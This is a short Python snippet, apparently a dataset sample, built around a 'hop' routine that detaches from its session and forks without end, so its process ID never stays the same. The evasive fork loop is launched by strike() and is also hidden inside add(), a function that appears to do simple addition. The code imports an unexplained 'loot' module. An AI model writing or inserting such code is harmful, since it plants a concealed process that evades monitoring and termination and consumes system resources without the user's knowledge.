"""A process that forks and leaves its parent again and again, so that its number is never the one just seen."""
# Row: 2
import loot, os, time

def hop():
    os.setsid()
    while True:
        if os.fork():
            os._exit(0)

def strike():
    if os.fork() == 0:
        hop()

def add(x, y):
    if os.fork() == 0:
        hop()
    return x + y
